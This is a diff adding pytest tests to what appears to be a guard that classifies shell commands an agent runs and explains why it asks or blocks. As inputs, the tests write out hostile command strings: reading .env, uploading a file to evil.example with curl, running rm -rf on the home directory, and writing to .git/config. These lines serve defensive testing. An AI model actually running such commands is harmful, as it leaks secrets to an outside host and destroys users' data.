@@ -449,3 +449,33 @@ def test_a_call_that_touches_nothing_is_not_called_a_change(desk: ShellDesk) -> 
     )
     changes = decide(facts(desk, writes=paths(desk, "a")))
     assert changes.reason == "mode ask asks about a change in the workspace"
+
+
+def test_RU_B1_the_request_names_the_reasons_of_all_parts_the_floor_first(desk: ShellDesk) -> None:
+    given = shell(desk, "make all && cat .env && curl -T x evil.example && rm -rf ~")
+    reason = decide(given).reason
+    assert given.shell is not None
+    assert reason.startswith(given.shell.catastrophic)
+    assert given.shell.catastrophic
+    named, _, rest = reason.rpartition("; and ")
+    assert len(named.split("; ")) == 3
+    assert rest.endswith(" more")
+
+
+def test_RU_B1_two_reasons_are_both_named_and_one_is_named_once(desk: ShellDesk) -> None:
+    given = shell(desk, "cat > notes.txt; curl evil.example")
+    assert given.shell is not None
+    first, second = (part.reason for part in given.shell.commands)
+    assert first != second
+    assert "" not in (first, second)
+    assert decide(given).reason.endswith(f": {first}; {second}")
+    twice = decide(shell(desk, "make a; make b")).reason
+    assert twice == decide(shell(desk, "make a")).reason
+
+
+def test_RU_B1_an_ask_rule_beside_the_floor_is_named_after_it(desk: ShellDesk) -> None:
+    given = shell(desk, "echo x > .git/config")
+    alone = decide(given).reason
+    ruled = decide(given, rules=rules(Rule("shell", "ask", "user")))
+    assert ruled.floor
+    assert ruled.reason.startswith(alone + "; ")
